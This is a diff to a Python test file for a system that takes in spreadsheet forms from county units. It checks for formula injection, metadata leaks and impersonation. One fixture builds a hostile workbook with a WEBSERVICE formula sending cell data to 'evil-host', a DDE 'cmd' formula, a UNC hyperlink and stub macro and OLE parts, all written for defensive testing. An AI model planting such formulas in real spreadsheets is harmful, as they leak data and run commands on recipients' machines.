@@ -2,13 +2,12 @@
 
 import getpass
 import io
-import os
 import re
 import socket
 import sys
 import zipfile
 from pathlib import Path
-from xml.etree import ElementTree
+from xml.etree import ElementTree  # noqa: ICN001
 
 import openpyxl
 import pytest
@@ -39,6 +38,7 @@ ACTIVE = (
     "&amp;]]>",
 )
 TEXTS = ("项目名称", "项目单位", "备注", "项目代码")
+
 
 def hostile_form(day: str = "2022年12月8日", **wrong: object) -> bytes:
     """F1 whose every text is one of those, one project a text; `wrong` goes into the first."""
@@ -81,7 +81,9 @@ def formulas(data: bytes) -> list[str]:
     found: list[str] = []
     for name, xml in parts(data).items():
         if name.startswith("xl/worksheets/sheet"):
-            found += [element.text or "" for element in ElementTree.fromstring(xml).iter() if element.tag.endswith("}f")]
+            found += [
+                element.text or "" for element in ElementTree.fromstring(xml).iter() if element.tag.endswith("}f")
+            ]
     return found
 
 
@@ -99,9 +101,9 @@ def targets(data: bytes) -> list[str]:
     return found
 
 
-def run(office: Office, now: str = "12-09 18:00") -> list[Receipt]:
+def run(office: Office, now: str = "12-09 18:00", *, publish: bool = True) -> list[Receipt]:
     """One pass with its publishing; a fault of the engine is none of the outcomes."""
-    receipts = office.take(now, publish=True)
+    receipts = office.take(now, publish=publish)
     assert not [finding for receipt in receipts for finding in receipt.findings if finding.code == "F11"]
     return receipts
 
@@ -113,7 +115,10 @@ def test_text_that_looks_like_a_formula_stays_text_in_every_workbook(office: Off
     office.drop(f"县住建局/{names[2]}", b"not a workbook at all")
     office.drop(f"县住建局/{names[3]}", form_one(unit="=1+1"))
     events = {event.file.rsplit("/", 1)[-1]: event for event in run(office)}
-    assert {name: events[name].outcome for name in names[:2]} == {names[0]: Outcome.ACCEPTED, names[1]: Outcome.RETURNED}
+    assert {name: events[name].outcome for name in names[:2]} == {
+        names[0]: Outcome.ACCEPTED,
+        names[1]: Outcome.RETURNED,
+    }
     books = written(office)
     assert len(books) >= 5
     assert [path for path in books if "/退回/" in path]
@@ -138,10 +143,12 @@ def tied_form() -> bytes:
     book = openpyxl.load_workbook(io.BytesIO(form_one(project("道路工程", 总投资="三千"))))
     sheet = book.active
     link = ExternalLink(externalBook=ExternalBook(id="rId1"))
-    link.file_link = Relationship(type="externalLinkPath", Target="file:///D:/evil-book.xlsx", TargetMode="External", Id="rId1")
+    link.file_link = Relationship(
+        type="externalLinkPath", Target="file:///D:/evil-book.xlsx", TargetMode="External", Id="rId1"
+    )
     book._external_links.append(link)
     book.defined_names["evil_name"] = DefinedName("evil_name", attr_text="[1]Sheet1!$A$1")
-    sheet["AF1"] = "=WEBSERVICE(\"http://evil-host/\"&B6)"
+    sheet["AF1"] = '=WEBSERVICE("http://evil-host/"&B6)'
     sheet["AF2"] = "=cmd|'/C evil'!A0"
     sheet["AF3"] = "=[1]Sheet1!$A$1"
     sheet["AF4"] = '=HYPERLINK("\\\\evil-host\\share","x")'
@@ -153,7 +160,7 @@ def tied_form() -> bytes:
     data = saved(book)
     extra = {
         "xl/vbaProject.bin": b"\xd0\xcf\x11\xe0 evil macro",
-        "xl/connections.xml": b'<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><connection id="1" name="evil"/></connections>',
+        "xl/connections.xml": b'<connections><connection id="1" name="evil"/></connections>',
         "xl/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0 evil object",
         "customXml/item1.xml": b"<evil/>",
     }
@@ -182,7 +189,7 @@ def test_no_output_says_where_or_by_whom_it_was_made(office: Office):
     office.drop("县住建局/坏.xlsx", b"PK\x03\x04 broken")
     office.drop("县住建局/网页.xls", b"<html><body><table></table></body></html>")
     run(office)
-    here = {str(office.home), str(Path(__file__).parent.parent), str(Path.home()), os.getcwd(), sys.prefix}
+    here = {str(office.home), str(Path(__file__).parent.parent), str(Path.home()), str(Path.cwd()), sys.prefix}
     names = {socket.gethostname(), getpass.getuser()} - {"root", "localhost"}
     books = written(office)
     assert len(books) >= 4
@@ -225,14 +232,16 @@ def test_characters_that_no_workbook_may_hold_never_make_one_that_does_not_open(
         assert openpyxl.load_workbook(io.BytesIO(made)).sheetnames, path
 
 
-@pytest.mark.parametrize("named", ["县水利局", "县水利局；古阳镇", "古阳镇\n填报单位：县水利局", "县水利局（代古阳镇）"])
+@pytest.mark.parametrize(
+    "named", ["县水利局", "县水利局；古阳镇", "古阳镇\n填报单位：县水利局", "县水利局（代古阳镇）"]
+)
 def test_what_lands_in_one_units_folder_never_becomes_anothers(office: Office, named: str):
     office.drop("县水利局/表.xlsx", form_one(project("水库工程"), unit="县水利局"))
-    run(office, "12-08 10:00")
+    run(office, "12-08 10:00", publish=False)
     before = office.state("县水利局", "12-08 12:00")
     assert before.counts is not None
     office.drop("古阳镇/冒名.xlsx", form_one(project("冒名工程"), unit=named))
-    [event] = run(office, "12-08 11:00")
+    [event] = run(office, "12-08 11:00", publish=False)
     assert event.unit in {"古阳镇", None}
     after = office.state("县水利局", "12-08 12:00")
     assert after.counts is not None
@@ -241,7 +250,7 @@ def test_what_lands_in_one_units_folder_never_becomes_anothers(office: Office, n
 
 def test_a_second_sheet_cannot_speak_for_another_unit(office: Office):
     office.drop("县水利局/表.xlsx", form_one(project("水库工程"), unit="县水利局"))
-    run(office, "12-08 10:00")
+    run(office, "12-08 10:00", publish=False)
     before = office.state("县水利局", "12-08 12:00")
     book = openpyxl.load_workbook(io.BytesIO(form_one(project("道路工程"))))
     other = openpyxl.load_workbook(io.BytesIO(form_one(project("冒名工程"), unit="县水利局"))).active
@@ -281,5 +290,3 @@ def test_names_shown_to_people_are_clean_and_those_for_programs_exact(office: Of
     office.drop(f"古阳镇/{name}", form_one(project("道路工程二")))
     [event] = run(office, "12-09 18:10")
     assert event.file == f"inbox/guxian/古阳镇/{name}"
-
-
